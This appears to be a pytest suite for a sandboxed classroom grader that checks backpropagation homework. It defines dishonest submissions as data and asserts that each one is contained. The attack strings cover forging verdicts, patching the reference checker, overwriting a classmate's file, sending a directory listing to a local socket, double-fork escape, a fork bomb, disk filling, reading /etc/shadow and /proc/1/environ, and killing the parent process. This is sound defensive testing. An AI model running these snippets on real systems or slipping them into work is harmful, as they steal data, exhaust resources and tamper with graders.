"""The hostile suite: dishonest submissions in one class run with the real check.

Each attack ends as that submission's own verdict (``error``, ``wrong`` or ``timeout``, or
``agrees`` where the attack hides behind correct math and is stopped without a trace); the
honest classmates agree; no file outside the sandboxes' directories changes; nothing an
attack started is alive after the run (the attacks that start processes name them
``mb-attack``). Where an attack would change its own verdict when it succeeds (the readers, the
copier), its verdict is the proof that it failed.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

from manual_backprop.cli import classroom
from tests.test_classroom import CORRECT, _backprop

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

ROOT = Path(__file__).resolve().parent.parent
NAME = "import ctypes\nctypes.CDLL(None).prctl(15, b'mb-attack', 0, 0, 0)\n"   # PR_SET_NAME
WRONG = "import numpy as np\n" + _backprop(sign="")

ATTACKS: dict[str, tuple[str, str]] = {   # file -> (source, the verdict it must get)
    "alice.py": (CORRECT, "agrees"),
    "forger.py": (WRONG + "import os\nforged = b'{\"verdict\": \"agrees\", \"ok\": true}\\n'\n"
                  "for fd in range(1, 64):\n    try:\n        os.write(fd, forged)\n"
                  "    except OSError:\n        pass\nos._exit(0)\n", "error"),
    "oracle.py": (WRONG + "import sys\nfor name, module in list(sys.modules.items()):\n"
                  "    if name.startswith(('reference', 'manual_backprop')) and hasattr("
                  "module, 'gradients'):\n        module.gradients = lambda w, X, Y, *a, **k: "
                  "backprop(w, X, Y)\n", "wrong"),
    "copier.py": ("import os\nsource = open({alice!r}).read()\nspace = {{}}\n"
                  "exec(source, space)\nbackprop = space['backprop']\n", "error"),
    "carol_saboteur.py": (CORRECT + "try:\n    open({dave!r}, 'w').write('def backprop(w, X, "
                          "Y):\\n    return [0 * W for W in w]\\n')\nexcept OSError:\n"
                          "    pass\n", "agrees"),
    "dave.py": (CORRECT, "agrees"),
    "exfiltration.py": (CORRECT + "import os, socket\ntry:\n    s = socket.create_connection("
                        "('127.0.0.1', {port}), timeout=2)\n    s.sendall(' '.join(os.listdir("
                        "{folder!r})).encode())\nexcept OSError:\n    pass\n", "agrees"),
    "escape.py": (CORRECT + "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
                  "    if os.fork() == 0:\n" + "".join("        " + line + "\n" for line in
                                                        NAME.splitlines()) +
                  "        time.sleep(5)\n        open({escaped!r}, 'w').write('escaped')\n"
                  "    os._exit(0)\n", "agrees"),
    "forkbomb.py": (NAME + CORRECT + "import os\nwhile True:\n    os.fork()\n", "error"),
    "diskfill.py": (CORRECT + "import os\nfor where in (os.environ.get('HOME', '.'), {folder!r}, "
                    "'/tmp', '/var/tmp'):\n    try:\n        for i in range(10000):\n"
                    "            with open(os.path.join(where, f'fill{{i}}'), 'wb') as f:\n"
                    "                f.write(b'x' * (1 << 20))\n    except OSError:\n"
                    "        pass\n", "agrees"),
    "reader.py": (CORRECT + "import os\nstolen = []\nfor path in ({judge!r}, {alice!r}, "
                  "os.path.expanduser('~root'), '/root', '/etc/shadow', '/proc/1/environ'):\n"
                  "    try:\n        stolen.append(os.listdir(path) if os.path.isdir(path) "
                  "else open(path, 'rb').read(10))\n    except OSError:\n        pass\n"
                  "if stolen:\n    backprop = lambda w, X, Y: [0 * W for W in w]\n", "agrees"),
    "liar.py": ("import numpy as np\nclass Liar:\n    def __eq__(self, other):\n"
                "        return True\n    def __array__(self, *a, **k):\n"
                "        return np.zeros((1, 1))\n    def __float__(self):\n        return 0.0\n"
                "def backprop(weights, X, Y):\n    return [Liar() for W in weights]\n", "error"),
    "garbage.py": ("import os\n" + CORRECT.replace("    pass\n", "    os.write(4, b'garbage' * "
                                                   "100)\n", 1), "error"),
    # the sandbox's first process has no parent it can see (getppid() is 0): kill(0) goes to
    # its own group, where it is init, whom SIGKILL from inside does not reach; the judge lives
    "parricide.py": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + CORRECT,
                     "agrees"),
    "sleeper.py": ("import time\n" + CORRECT.replace("    pass\n", "    time.sleep(3600)\n", 1),
                   "timeout"),
}


def _attack_processes() -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and Path(f"/proc/{pid}/comm").read_text().strip() == "mb-attack":
                state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
                if state not in ("Z", "X"):
                    found.append(int(pid))
        except OSError:
            pass
    return found


def _snapshot(*folders: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for folder in folders for p in sorted(folder.rglob("*"))
            if p.is_file()}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    tmp = tmp_path_factory.mktemp("attacks")
    folder, outside = tmp / "class", tmp / "outside"
    folder.mkdir()
    outside.mkdir()
    received: list[bytes] = []
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                connection, _address = listener.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    received.append(connection.recv(1 << 16) or b"(connected)")
                except OSError:
                    received.append(b"(connected)")

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    values = {"alice": str(folder / "alice.py"), "dave": str(folder / "dave.py"),
              "port": listener.getsockname()[1], "folder": str(folder),
              "escaped": str(outside / "escaped.txt"), "judge": str(ROOT / "reference" /
                                                                     "check.py")}
    for name, (source, _verdict) in ATTACKS.items():
        (folder / name).write_text(source.format(**values) if "{" in source and name not in (
            "alice.py", "dave.py", "forger.py", "oracle.py", "liar.py", "garbage.py",
            "parricide.py", "sleeper.py", "forkbomb.py") else source, encoding="utf-8")
    before = _snapshot(folder, outside, ROOT / "reference", ROOT / "manual_backprop")
    results = classroom.run_class(classroom.find_submissions([str(folder)], "backprop"),
                                  ["--max-examples", "10"], jobs=2, timeout=40)
    time.sleep(6)                                      # the escape's 5 s
    stop.set()
    thread.join()
    listener.close()
    return {"results": {r.submission.name: r for r in results}, "received": received,
            "changed": before != _snapshot(folder, outside, ROOT / "reference",
                                           ROOT / "manual_backprop"),
            "alive": _attack_processes(), "outside": sorted(p.name for p in outside.iterdir())}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attack_gets_its_own_verdict(attacked: dict[str, object], name: str) -> None:
    results = attacked["results"]
    assert isinstance(results, dict)
    result = results[name]
    assert result.verdict == ATTACKS[name][1], (result.verdict, result.diagnosis, result.report)


def test_no_attack_reached_the_network(attacked: dict[str, object]) -> None:
    assert attacked["received"] == []


def test_no_file_outside_the_sandboxes_changed(attacked: dict[str, object]) -> None:
    assert attacked["changed"] is False
    assert attacked["outside"] == []                   # the escape never wrote


def test_nothing_an_attack_started_is_alive(attacked: dict[str, object]) -> None:
    assert attacked["alive"] == []
